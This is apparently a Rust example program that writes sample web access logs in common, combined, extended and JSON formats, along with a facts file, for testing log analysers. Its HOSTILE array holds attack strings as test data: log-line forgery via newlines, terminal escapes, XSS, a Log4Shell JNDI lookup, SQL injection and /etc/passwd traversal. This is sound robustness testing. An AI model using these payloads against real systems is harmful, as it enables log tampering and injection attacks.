//! A log for judges: requests of all kinds, many of them hostile, in each format, and what is true of them.
//!
//! ```text
//! cargo run -p salver-access-log --example sample_log -- FOLDER
//! ```
//!
//! Writes `common.log`, `combined.log`, `extended.log` and `json.log` to FOLDER, all of the same requests, and
//! `facts.json`: how many there are, how many have each status, and which clients got 401.
#![allow(clippy::print_stdout, clippy::unwrap_used, clippy::indexing_slicing)]

use std::collections::BTreeMap;
use std::path::Path;
use std::time::{Duration, SystemTime};

use salver_access_log::{
    AddressText, CacheState, Destination, Draft, Format, LogWriter, LoggedRequest, LoggedResponse,
    Protocol, RequestIds, Settings, TraceParent,
};

/// What strangers send to break a log, or what reads it.
const HOSTILE: [&[u8]; 22] = [
    b"\" 200 1 \"-\" \"-\"\n192.0.2.99 - - [01/Jan/2000:00:00:00 +0000] \"GET /forged HTTP/1.1",
    b"\r\n192.0.2.99 - - [01/Jan/2000:00:00:00 +0000] \"GET / HTTP/1.1\" 401 5 \"-\" \"-\"\r\n",
    b" HTTP/1.1\" 401 5",
    b"\\\" 401 5 \\",
    b"\\",
    b"\"",
    b"\0",
    b"\x1b]0;owned\x07\x1b[2J",
    b"\xff\xfe\xc3\x28\xed\xa0\x80",
    "\u{202e}moc.live\u{202c}".as_bytes(),
    "\u{2028}\u{85}\u{feff}\u{200b}".as_bytes(),
    b"%n%s%x%00%0a%0d",
    b"[01/Jan/2000:00:00:00 +0000]",
    b"192.0.2.99 - - [01/Jan/2000:00:00:00 +0000] ",
    b"<script>alert(1)</script>",
    b"${jndi:ldap://192.0.2.99/a}",
    b"' OR 1=1 --",
    b"\t\x0b\x0c",
    b"{\"http.response.status_code\":401,\"client.address\":\"192.0.2.99\"}",
    b"\"}\n{\"client.address\":\"192.0.2.99\",\"http.response.status_code\":401}",
    b"/../../../../etc/passwd",
    b"- - -",
];

/// The field that is hostile in a request.
const FIELDS: usize = 7;

struct Request {
    client: AddressText,
    status: u16,
    method: Vec<u8>,
    path: Vec<u8>,
    texts: [Vec<u8>; 5],
}

fn requests() -> Vec<Request> {
    let agents = [
        "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
        "curl/8.14.1",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
    ];
    let statuses = [200, 200, 200, 206, 304, 301, 404, 403, 500, 503, 401, 416];
    let ordinary = (0..1200_usize).map(|number| Request {
        client: client(number),
        status: statuses[number % statuses.len()],
        method: if number % 7 == 0 {
            b"HEAD".to_vec()
        } else {
            b"GET".to_vec()
        },
        path: format!("/page/{}", number % 40).into_bytes(),
        texts: [
            if number % 5 == 0 {
                b"jane".to_vec()
            } else {
                Vec::new()
            },
            b"www.example.org".to_vec(),
            if number % 3 == 0 {
                format!("q={number}").into_bytes()
            } else {
                Vec::new()
            },
            if number % 2 == 0 {
                b"https://www.example.org/".to_vec()
            } else {
                Vec::new()
            },
            agents[number % agents.len()].as_bytes().to_vec(),
        ],
    });
    let long = b"a".repeat(100_000);
    let hostile = HOSTILE.into_iter().chain([&long[..]]);
    let hostile = hostile.enumerate().flat_map(|(number, text)| {
        (0..FIELDS).map(move |field| {
            let of = |this: usize, else_: &[u8]| if field == this { text } else { else_ }.to_vec();
            Request {
                client: client(number * FIELDS + field),
                status: if number % 2 == 0 { 401 } else { 404 },
                method: of(0, b"GET"),
                path: [b"/", &of(1, b"hostile")[..]].concat(),
                texts: [
                    of(2, b""),
                    of(3, b"www.example.org"),
                    of(4, b""),
                    of(5, b""),
                    of(6, b"curl/8.14.1"),
                ],
            }
        })
    });
    let strange = [b"".as_slice(), b"PRI", b"get", b"GE,T"].map(|method| Request {
        client: AddressText::new("2001:db8::7".parse().unwrap()),
        status: 400,
        method: method.to_vec(),
        path: b"*".to_vec(),
        texts: Default::default(),
    });
    ordinary.chain(hostile).chain(strange).collect()
}

fn client(number: usize) -> AddressText {
    let last = u8::try_from(number % 80).unwrap() + 1;
    match number % 3 {
        0 => AddressText::new(format!("2001:db8::{last:x}").parse().unwrap()),
        _ => AddressText::new([192, 0, 2, last].into()),
    }
}

fn write(requests: &[Request], format: Format, path: &Path, now: Duration) {
    let writer = LogWriter::start(|_| {}).unwrap();
    let settings = Settings {
        format,
        queue_bytes: 64 << 20,
        ..Settings::new(Destination::File(path.to_owned()))
    };
    let log = writer.open(&settings).unwrap();
    let mut producer = log.producer();
    let mut ids = RequestIds::new().unwrap();
    let states = [
        CacheState::Hit,
        CacheState::Miss,
        CacheState::Revalidated,
        CacheState::Expired,
        CacheState::Stale,
        CacheState::Bypass,
    ];
    let trace = TraceParent::new(1 << 100, 7, 1);
    let mut draft = Draft::default();
    for (number, request) in requests.iter().enumerate() {
        let [user, host, query, referer, user_agent] = &request.texts;
        let asked = &LoggedRequest {
            client: &request.client,
            user,
            host,
            method: &request.method,
            path: &request.path,
            query: (!query.is_empty()).then_some(query),
            protocol: [Protocol::Http11, Protocol::Http2, Protocol::Http3][number % 3],
            started: now,
            request_id: ids.next_id(),
            trace: trace.filter(|_| number % 4 == 0),
            referer,
            user_agent,
        };
        draft.keep(asked);
        producer.log(
            &draft,
            &LoggedResponse {
                status: request.status,
                sent: 1000,
                duration: Duration::from_micros(1234),
                coding: if number % 2 == 0 { "br" } else { "" },
                cache: (number % 7 > 0).then(|| states[number % states.len()]),
                site: b"main",
            },
        );
    }
    assert!(writer.stop(Duration::from_secs(60)));
    assert_eq!(log.statistics().dropped, 0);
}

fn main() {
    let folder = std::env::args()
        .nth(1)
        .map(std::path::PathBuf::from)
        .unwrap();
    let requests = requests();
    // Analysers count days from now.
    let now = SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap();
    for (name, format) in [
        ("common", Format::Common),
        ("combined", Format::Combined),
        ("extended", Format::Extended),
        ("json", Format::Json),
    ] {
        let path = folder.join(name).with_extension("log");
        let _ = std::fs::remove_file(&path);
        write(&requests, format, &path, now);
    }
    let mut statuses = BTreeMap::new();
    for request in &requests {
        *statuses.entry(request.status.to_string()).or_insert(0_u64) += 1;
    }
    let refused = requests.iter().filter(|request| request.status == 401);
    let refused: Vec<_> = refused
        .map(|request| String::from_utf8(request.client.as_bytes().to_vec()).unwrap())
        .collect();
    let facts = serde_json::json!({
        "requests": requests.len(),
        "statuses": statuses,
        "refused": refused,
    });
    std::fs::write(folder.join("facts.json"), facts.to_string()).unwrap();
    println!("{} requests in each of 4 logs", requests.len());
}
